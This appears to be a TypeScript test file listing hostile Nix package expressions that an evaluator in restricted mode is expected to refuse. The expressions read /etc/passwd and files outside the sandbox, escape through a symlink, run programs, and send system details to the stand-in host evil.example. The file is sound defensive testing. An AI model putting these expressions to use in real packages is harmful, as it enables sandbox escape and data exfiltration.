import { linkTo, packageFile, type HostileCase, type HostileFiles } from '../hostile-case';

/** A package that Nix refuses, with the words of the refusal. */
const refused = (
  name: string,
  text: string,
  words: RegExp,
  files: HostileFiles = {},
): HostileCase => ({
  name: `a package that ${name}`,
  kind: 'evaluation',
  files: { [packageFile('evil')]: text, ...files },
  refused: ['["evil"]', words],
});
/** A package that Nix evaluates, to what is harmless. */
const harmless = (name: string, text: string, value: unknown): HostileCase => ({
  name: `a package that ${name}`,
  kind: 'evaluation',
  files: { [packageFile('evil')]: text },
  values: { '["evil"]': value, '["good"]': 'good other' },
});

const RESTRICTED = /restricted mode/;

export const EVALUATION: readonly HostileCase[] = [
  refused('reads a file outside', '{ }: builtins.readFile "@outside@/value.nix"', RESTRICTED),
  refused('lists a folder outside', '{ }: builtins.readDir "@outside@"', RESTRICTED),
  refused(
    'hashes a file outside',
    '{ }: builtins.hashFile "sha256" "@outside@/value.nix"',
    RESTRICTED,
  ),
  refused(
    'copies a folder outside',
    '{ }: builtins.path { path = "@outside@"; name = "x"; }',
    RESTRICTED,
  ),
  refused(
    'filters a folder outside',
    '{ }: builtins.filterSource (_: _: true) "@outside@"',
    RESTRICTED,
  ),
  refused('puts a path outside into a text', '{ }: "${/. + "@outside@"}"', RESTRICTED),
  refused('imports through a link', '{ }: import ./link/value.nix', RESTRICTED, {
    'by-name/ev/evil/link': linkTo('@outside@'),
  }),
  refused(
    'imports with other names',
    '{ }: builtins.scopedImport { } "@outside@/value.nix"',
    RESTRICTED,
  ),
  refused('reads the users of the machine', '{ }: builtins.readFile /etc/passwd', RESTRICTED),
  refused('takes a flake', '{ }: (builtins.getFlake "path:@outside@").secret', /flakes|getFlake/),
  refused(
    'takes a tree',
    '{ }: builtins.fetchTree { type = "path"; path = "@outside@"; }',
    /restricted mode|fetchTree|flakes|experimental|not supported|unsupported/i,
  ),
  refused(
    'takes a repository',
    '{ }: builtins.fetchGit "@outside@"',
    /restricted mode|fetchGit|not a git|does not exist/,
  ),
  refused(
    'takes an archive',
    '{ }: builtins.fetchTarball "file://@outside@/value.nix"',
    RESTRICTED,
  ),
  refused('takes a file', '{ }: builtins.fetchurl "file://@outside@/value.nix"', RESTRICTED),
  refused(
    'tells the network something',
    '{ }: builtins.fetchurl "https://evil.example/${builtins.currentSystem}"',
    RESTRICTED,
  ),
  refused('runs a program', '{ }: builtins.exec [ "touch" "@outside@/ran" ]', /exec/),
  refused('loads a library', '{ }: builtins.importNative /lib/x.so "x"', /importNative/),
  refused(
    'builds while it is evaluated',
    '{ }: import (derivation { name = "x"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "echo 1 > $out" ]; })',
    /import-from-derivation/,
  ),
  refused(
    'names a path of the store that it cannot know',
    '{ }: builtins.storePath "/nix/store/00000000000000000000000000000000-x"',
    /not valid|does not exist|not in the Nix store|restricted|is not/,
  ),
  refused('throws', '{ }: throw "evil \\u001b[2J"', /evil/),
  refused('ends all of it', '{ }: abort "evil"', /evil/),
  refused('leans on itself', '{ }: let x = x; in x', /infinite recursion/),
  refused(
    'calls itself without end',
    '{ }: let f = x: 1 + f (x + 1); in f 0',
    /stack overflow|max-call-depth/,
  ),
  harmless('asks whether a file is there', '{ }: builtins.pathExists "@outside@/value.nix"', false),
  harmless('reads the environment', '{ }: builtins.getEnv "HOME" + builtins.getEnv "PATH"', ''),
  harmless(
    'takes a name that the set binds for another',
    '{ }: let other = "mine"; in other',
    'mine',
  ),
  harmless(
    'shadows a builtin for itself',
    'let import = _: "evil"; builtins = { }; in { }: import 1',
    'evil',
  ),
  harmless(
    'tries what is refused, and goes on',
    '{ }: (builtins.tryEval (throw "x")).success',
    false,
  ),
];
